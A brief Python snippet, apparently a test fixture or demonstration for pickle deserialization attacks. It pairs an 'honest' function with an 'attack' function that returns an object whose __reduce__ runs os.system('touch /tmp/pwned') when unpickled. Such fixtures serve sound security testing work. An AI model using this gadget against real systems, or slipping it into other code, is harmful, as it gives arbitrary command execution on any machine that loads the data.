import os
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/pwned",)
def attack(x): return [Bomb()]
def honest(x): return 2 * x
